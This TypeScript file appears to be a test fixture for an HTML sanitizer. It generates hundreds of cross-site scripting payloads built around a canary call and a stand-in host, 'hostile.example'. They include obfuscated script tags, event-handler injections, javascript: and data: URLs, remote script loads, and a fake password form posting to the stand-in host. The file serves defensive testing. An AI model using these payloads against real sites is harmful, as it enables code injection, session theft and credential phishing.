/** This code reports itself if it ever runs in the test's browser. */
export const RUN = 'hostile()'
/** Only pictures may ever be fetched from this host. */
export const FAR = 'https://hostile.example'

const words = (text: string) => text.split(' ')

const TAGS = words(
  'a abbr address applet area article aside audio b base bdi bdo blink body br button canvas center details dialog div embed fieldset font footer form frame frameset head header html iframe image img input isindex keygen label link listing main map marquee math menu meta meter multicol nav noembed noframes noscript object ol option p param picture plaintext portal progress search select selectedcontent slot source style svg table tbody td template textarea th title track ul video x-widget xmp',
)
const EVENTS = words(
  'onload onerror onclick onmouseover onfocus onblur ontoggle onbegin onend onanimationstart onanimationend ontransitionend ontransitionrun onpointerenter onpointerrawupdate onwheel onscroll onscrollend onbeforeinput oninput onchange onsubmit onreset oninvalid onsearch onselect onselectstart onkeydown onpaste oncopy oncut ondrag ondrop onstart onfinish onbounce onplay oncanplay onloadstart onprogress onresize onpageshow onhashchange onpopstate onmessage onstorage onunhandledrejection onbeforematch oncommand onbeforetoggle onsecuritypolicyviolation onslotchange onwebkitanimationstart onauxclick oncontextmenu onformdata oncuechange ongotpointercapture onfullscreenchange oncontentvisibilityautostatechange',
)
/** These characters may separate two names of a tag. */
const GAPS = [' ', '/', '\t', '\n', '\f', ' / ', '\r\n', '"', ' x ', '\u00a0']
const QUOTES = ['', '"', "'", '`']

const elements = TAGS.flatMap((tag, n) => {
  const [one, other] = [EVENTS[n % EVENTS.length], EVENTS[(n * 7 + 3) % EVENTS.length]]
  const gap = GAPS[n % GAPS.length]
  return [
    `<${tag} ${one}=${RUN}>甲</${tag}>`,
    `<${tag.toUpperCase()}${gap}${other}=${RUN} autofocus tabindex=0 src=x open>`,
    `<${tag} src=x href=x data=x srcdoc="<script>${RUN}</script>" ${one}="${RUN}" ${other}='${RUN}'`,
    `</${tag}><${tag}/${one}=${RUN}//`,
  ]
})

const events = EVENTS.flatMap((event, n) => {
  const [quote, gap] = [QUOTES[n % 4], GAPS[n % GAPS.length]]
  return [
    `<img src=x${gap}${event}=${quote}${RUN}${quote}>`,
    `<p style="animation:x 1s" ${event.toUpperCase()}=${quote}${RUN}${quote}>乙</p>`,
    `<a href="#"${gap}${event}\u000c=${RUN}>丙</a>`,
    `<details open ${event}${gap}=\n${quote}${RUN}${quote}><summary>丁</summary></details>`,
  ]
})

const scripts = [
  ...[
    'script',
    'SCRIPT',
    'ScRiPt',
    'script ',
    'script/x',
    'script\n',
    'script\t',
    'script\f',
    'script src=//hostile.example/x.js',
  ].flatMap((tag) => [
    `<${tag}>${RUN}</script>`,
    `甲<${tag}>${RUN}</script\n>乙`,
    `<<${tag}>${RUN}//<</script>`,
    `<scr<${tag}></script>ipt>${RUN}</script>`,
    `<${tag}>/*`,
  ]),
  `<script>${RUN}`,
  `<script type=module>import '${FAR}/x.js'</script>`,
  `<script type=importmap>{"imports":{"a":"${FAR}/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${FAR}/x"]}]}</script>`,
  `<script nomodule>${RUN}</script>`,
  `<script>\u2028${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><script xlink:href="${FAR}/x.js"></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<!--<script>-->${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<!---><script>${RUN}</script>-->`,
  `<!--!><script>${RUN}</script>--!><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?php echo '<script>${RUN}</script>'?>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`,
  `<%<script>${RUN}</script>%>`,
  `{{constructor.constructor('${RUN}')()}} <script>{{${RUN}}}</script>`,
  `</p><script>${RUN}</script><p>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `</title></textarea></style></noscript></template></xmp><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `<script\u0000>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `<İframe srcdoc="<script>${RUN}</script>">`,
]

const embeds = [
  ...['iframe', 'frame', 'object', 'embed', 'portal', 'fencedframe', 'applet'].flatMap((tag) => [
    `<${tag} src="javascript:${RUN}"></${tag}>`,
    `<${tag} src="data:text/html,<script>${RUN}</script>" data="data:text/html,<script>${RUN}</script>"></${tag}>`,
    `<${tag} srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></${tag}>`,
    `<${tag} src=//hostile.example/frame data=//hostile.example/frame code=//hostile.example/frame>`,
    `<${tag} sandbox="allow-scripts allow-same-origin allow-top-navigation" src="/" name=top>`,
    `<${tag} type="text/html" data="${FAR}/frame" style="position:fixed;inset:0">`,
  ]),
  ...['GET', 'POST', 'dialog'].flatMap((method) => [
    `<form method=${method} action="${FAR}/take"><input name=password type=password><button>登录</button></form>`,
    `<form method=${method} id=search action="javascript:${RUN}"><input type=submit></form>`,
    `<button form=search formmethod=${method} formaction="javascript:${RUN}">乙</button>`,
    `<input type=image form=search src=x formaction="${FAR}/take" onerror=${RUN}>`,
    `<isindex type=submit formmethod=${method} action="javascript:${RUN}">`,
  ]),
  `<base href="${FAR}/">`,
  `<base target="_top">`,
  `<BASE/HREF=${FAR}/>`,
  `<meta http-equiv=refresh content="0;url=${FAR}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  `<meta http-equiv=set-cookie content="blog_token=x">`,
  `<meta name=referrer content=unsafe-url>`,
  `<meta charset=utf-7>`,
  `<link rel=stylesheet href="${FAR}/x.css">`,
  `<link rel=preload as=script href="${FAR}/x.js">`,
  `<link rel=modulepreload href="${FAR}/x.js">`,
  `<link rel=prefetch href="${FAR}/x">`,
  `<link rel=dns-prefetch href="//hostile.example">`,
  `<link rel=manifest href="${FAR}/m.json">`,
  `<link rel=import href="${FAR}/x.html">`,
  `<style>@import "${FAR}/x.css";</style>`,
  `<style>*{background:url(${FAR}/x)}</style>`,
  `<style>@font-face{font-family:x;src:url(${FAR}/x)}</style>`,
  `<style onload=${RUN}></style>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script><slot></slot></template>`,
  `<div><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style></template></div>`,
  `<video poster="javascript:${RUN}" src=x onerror=${RUN}><source onerror=${RUN}><track onload=${RUN}></video>`,
  `<audio src=${FAR}/a autoplay onplay=${RUN}>`,
  `<picture><source srcset="x" onerror=${RUN}><img srcset="javascript:${RUN}" sizes=x></picture>`,
  `<map name=x><area href="javascript:${RUN}" shape=rect coords=0,0,9999,9999></map><img usemap=#x src=/favicon.svg>`,
  `<dialog open style="position:fixed;inset:0">登录已过期</dialog>`,
  `<p popover id=x>弹出</p><button popovertarget=x>打开</button>`,
  `<button commandfor=menu command=show-modal>打开</button>`,
  `<p contenteditable autofocus onfocus=${RUN}>可以改</p>`,
  `<p draggable=true ondragstart=${RUN}>拖我</p>`,
  `<p is=x-widget accesskey=x onclick=${RUN}>快捷键</p>`,
  `<a ping="${FAR}/ping" href="/">ping</a>`,
  `<a attributionsrc="${FAR}/a" href="/">attribution</a>`,
  `<img attributionsrc="${FAR}/a" src=/favicon.svg>`,
  `<a href="/" target=_top download=x.exe>下载</a>`,
  `<input type=hidden name=csrf value=x><input type=file webkitdirectory>`,
]

/** Lists raw HTML that acts by itself: elements, events, scripts, and what embeds or loads. */
export const RAW_HTML: readonly string[] = [...elements, ...events, ...scripts, ...embeds]
